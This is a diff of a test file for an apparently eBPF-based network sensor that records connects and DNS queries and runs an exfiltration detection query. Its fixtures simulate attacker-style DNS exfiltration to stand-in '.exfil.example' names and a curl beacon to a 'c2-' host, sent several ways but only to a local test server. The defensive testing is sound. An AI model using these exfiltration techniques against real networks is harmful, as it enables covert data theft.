@@ -141,6 +141,21 @@ def test_udp_connected_and_unconnected(sensor: Sensor, rows: Collector, workdir:
     assert send["exec_eid"] == 0 and json.loads(send["origin"])["path"] == str(script)
 
 
+def test_tcp_fast_open_is_a_connect_with_its_outcome(sensor: Sensor, workdir: Path) -> None:
+    """sendto(MSG_FASTOPEN) connects without connect(): the kernel still runs connect4
+    for it (__inet_stream_connect's pre_connect), so it is a row like any connect."""
+    with HttpServer() as server:
+        code = ("import socket\n"
+                "s = socket.socket()\n"
+                f"s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('127.0.0.1', {server.port}))\n"
+                "s.recv(100)\n")
+        script = write_executable(workdir / "tfo.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n")
+        run(script)
+        (hit,) = socket_rows(sensor, lambda r: r["action"] == "connect" and r["remote_port"] == server.port
+                             and str(script) in r["origin"])
+    assert (hit["status"], hit["remote_address"], hit["protocol"]) == ("succeeded", "127.0.0.1", 6)
+
+
 def test_ipv6_and_v4_mapped(sensor: Sensor, rows: Collector, workdir: Path) -> None:
     code = ("import socket\n"
             "for addr in ('::1', '::ffff:127.0.0.1'):\n"
@@ -164,6 +179,30 @@ def test_dns_questions_are_read_as_they_leave_however_the_name_was_given(sensor:
     tag = uuid.uuid4().hex[:8]
     (workdir / "resolv.conf").write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
     (workdir / "names.txt").write_text(f"b1-{tag}.exfil.example\nb2-{tag}.exfil.example\n")
+    # The same questions sent the ways a tool of the attacker's own could: TCP with the
+    # length written apart, a sendmsg of two pieces, an unconnected sendto, a sendfile.
+    (workdir / "ask.py").write_text(f"""import os, socket, struct
+def query(name):
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", 1, 1)
+q = query("split-{tag}.exfil.example")
+t = socket.create_connection(("127.0.0.1", 53), timeout=2)
+t.sendall(struct.pack("!H", len(q)))
+t.sendall(q)
+t.close()
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.connect(("127.0.0.1", 53))
+q = query("iov-{tag}.exfil.example")
+u.sendmsg([q[:12], q[12:]])
+q = query("sendto-{tag}.exfil.example")
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))
+with open("{workdir}/sendfile-query", "wb") as f:
+    f.write(query("sendfile-{tag}.exfil.example"))
+with open("{workdir}/sendfile-query", "rb") as f:
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.connect(("127.0.0.1", 53))
+    os.sendfile(u.fileno(), f.fileno(), 0, 100)
+""")
     write_executable(workdir / "inner.sh", f"""#!/bin/sh
 ip link set lo up
 mount --bind {workdir}/resolv.conf /etc/resolv.conf
@@ -175,15 +214,28 @@ curl -s -m 2 http://c2-{tag}.example.com/
 printf 'stdin-{tag}.exfil.example\\n{tag}{tag}.stdin.exfil.example\\n' | nslookup >/dev/null
 dig +short +tries=1 +time=1 -f {workdir}/names.txt
 dig +tcp +short +tries=1 +time=1 tcp-{tag}.exfil.example TXT
+{PYTHON} {workdir}/ask.py
 kill $server
 """)
     run(write_executable(workdir / "dns.sh", f"#!/bin/sh\nexec unshare -n -m /bin/sh {workdir}/inner.sh\n"), timeout=60)
     names = {f"c2-{tag}.example.com", f"stdin-{tag}.exfil.example", f"b1-{tag}.exfil.example",
-             f"b2-{tag}.exfil.example", f"tcp-{tag}.exfil.example", f"{tag}{tag}.stdin.exfil.example"}
-    hits = socket_rows(sensor, lambda r: r["action"] == "dns_query" and tag in r["dns_name"], count=7, timeout=15)
+             f"b2-{tag}.exfil.example", f"tcp-{tag}.exfil.example", f"{tag}{tag}.stdin.exfil.example",
+             f"split-{tag}.exfil.example", f"iov-{tag}.exfil.example", f"sendto-{tag}.exfil.example"}
+    hits = socket_rows(sensor, lambda r: r["action"] == "dns_query" and tag in r["dns_name"], count=11, timeout=15)
     asked = {(r["comm"], r["dns_name"], r["dns_type"], r["protocol"]) for r in hits}
-    assert {("curl", f"c2-{tag}.example.com", "A", 17), ("dig", f"tcp-{tag}.exfil.example", "TXT", 6)} <= asked, asked
-    assert {name for _, name, _, _ in asked} == names, asked
+    python = os.path.basename(PYTHON)[:15]
+    # curl's A and AAAA leave in one sendmmsg (glibc): both are read, each from its own message.
+    assert {("curl", f"c2-{tag}.example.com", "A", 17), ("curl", f"c2-{tag}.example.com", "AAAA", 17),
+            ("dig", f"tcp-{tag}.exfil.example", "TXT", 6), (python, f"split-{tag}.exfil.example", "A", 6),
+            (python, f"iov-{tag}.exfil.example", "A", 17), (python, f"sendto-{tag}.exfil.example", "A", 17)} <= asked, asked
+    # A sendfile: egress reads the datagram; at the syscall, there is no buffer to read
+    # it from, so it is a question with no name, and the status row counts it.
+    btf = sensor.status()["probe_mode"] == "btf"
+    assert {name for _, name, _, _ in asked} == names | (set() if btf else {f"sendfile-{tag}.exfil.example"}), asked
+    if btf:
+        unread = socket_rows(sensor, lambda r: r["action"] == "dns_query" and r["dns_name"] == ""
+                             and str(workdir / "ask.py") in r["origin"])
+        assert len(unread) == 1 and sensor.status()["socket_events_lost"] >= 1
     # The detection judges the questions sent: the 16-hex-character label given on stdin.
     (query,) = [q for q in packs.load() if q.name == "netutil_dns_questions_exfiltration"]
     _, found = Host(stored_tables(lambda: sensor.store)).query(query.sql)
@@ -191,8 +243,9 @@ kill $server
     assert not any(f"c2-{tag}" in str(row) for row in found)
     for r in hits:
         assert (r["remote_address"], r["remote_port"]) == ("127.0.0.1", 53)
-        origin = json.loads(r["origin"])   # the nearest exec from /tmp: sh on the script
-        assert str(workdir / "inner.sh") in (origin["path"], origin.get("script")), origin
+        origin = json.loads(r["origin"])   # the nearest exec from /tmp: sh or python on a script
+        script = workdir / ("ask.py" if r["comm"] == python else "inner.sh")
+        assert str(script) in (origin["path"], origin.get("script")), origin
 
 
 def test_an_untracked_process_makes_no_row(sensor: Sensor, workdir: Path) -> None:
@@ -229,45 +282,57 @@ def test_the_join_answers_in_the_embedded_host(sensor: Sensor, rows: Collector, 
     assert answer == [(f"curl -s http://127.0.0.1:{port}/join", "127.0.0.1", "refused")]
 
 
-def _attached_program_ids(root: Path) -> set[int]:
-    """Ids of the programs bpftool lists on the cgroup."""
-    out = subprocess.run(["bpftool", "-j", "cgroup", "show", str(root)], check=True, capture_output=True, text=True).stdout
-    return {p["id"] for p in json.loads(out or "[]")}
+def _links() -> dict[int, dict[str, object]]:
+    """The BPF links the kernel holds (cgroup programs and raw tracepoints), by id."""
+    out = subprocess.run(["bpftool", "-j", "link", "show"], check=True, capture_output=True, text=True).stdout
+    return {link["id"]: link for link in json.loads(out or "[]")}
 
 
 def test_kill_9_of_the_sensor_leaves_no_program_attached(tmp_path: Path, probe_mode: str) -> None:
     """The socket programs hang on BPF links that die with the process: a sensor killed
-    with SIGKILL leaves nothing on the cgroup (bcc's own attach would)."""
-    from osquery_netutil.kernel.sockets import PROGRAMS, cgroup2_root
+    with SIGKILL leaves nothing on the cgroup (bcc's own attach would), nor its raw
+    tracepoint on sock:sock_send_length (btf mode)."""
+    from osquery_netutil.kernel.sockets import EGRESS_PROGRAMS, PROGRAMS
 
     tmp_path.chmod(0o700)
-    code = ("import os, re, sys, time\n"
+    code = ("import re, time\n"
             "from pathlib import Path\n"
             "from osquery_netutil.catalog import Catalog\n"
             "from osquery_netutil.events.sensor import Sensor\n"
             "from osquery_netutil.store.store import Store\n"
             f"s = Sensor(Catalog.load(), Store(Path({str(tmp_path)!r}) / 'e.db'), probe_mode={probe_mode!r}); s.start()\n"
-            "ids = [int(re.search(r'prog_id:\\s+(\\d+)', Path(f'/proc/self/fdinfo/{fd}').read_text()).group(1))\n"
-            "       for fd in s._probe._links._fds]\n"
-            "print(' '.join(map(str, ids)), flush=True)\n"
+            "infos = []\n"
+            "for fd in list(Path('/proc/self/fdinfo').iterdir()):\n"
+            "    try: infos.append(fd.read_text())\n"
+            "    except OSError: pass   # the listing's own fd\n"
+            "found = [re.search(r'link_type:\\s+(\\w+)\\s+link_id:\\s+(\\d+)', i) for i in infos]\n"
+            "print(' '.join(m.group(1) + ':' + m.group(2) for m in found if m), flush=True)\n"
             "time.sleep(60)\n")
     child = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
     try:
         assert child.stdout is not None
-        ids = {int(i) for i in child.stdout.readline().split()}
-        assert len(ids) == len(PROGRAMS) and ids <= _attached_program_ids(cgroup2_root())
+        ids = {int(word.split(":")[1]) for word in child.stdout.readline().split()}
+        held = _links()
+        assert ids <= held.keys()
+        cgroup = [i for i in ids if held[i]["type"] == "cgroup"]
+        tracepoints = {held[i].get("tp_name") for i in ids if held[i]["type"] == "raw_tracepoint"}
+        if probe_mode == "btf":
+            assert len(cgroup) == len(PROGRAMS) and "sock_send_length" in tracepoints
+        else:
+            assert len(cgroup) == len(PROGRAMS) + len(EGRESS_PROGRAMS) and "sock_send_length" not in tracepoints
     finally:
         child.send_signal(signal.SIGKILL)
         child.wait(timeout=10)
-    root = cgroup2_root()
     deadline = time.monotonic() + 5
-    while ids & _attached_program_ids(root) and time.monotonic() < deadline:
+    while ids & _links().keys() and time.monotonic() < deadline:
         time.sleep(0.1)   # the kernel releases the links as it closes the dead process's files
-    assert not ids & _attached_program_ids(root)
+    assert not ids & _links().keys()
 
 
 def test_counters_and_rows_agree(sensor: Sensor) -> None:
     status = sensor.status()
-    assert status["socket_events"] > 0 and status["socket_events_lost"] == 0
+    assert sensor._probe is not None   # noqa: SLF001
+    unread = sensor._probe.counters().sock_unread   # noqa: SLF001 (the DNS test's sendfile, btf mode)
+    assert status["socket_events"] > 0 and status["socket_events_lost"] == unread
     assert sensor.socket_rows > 0
 
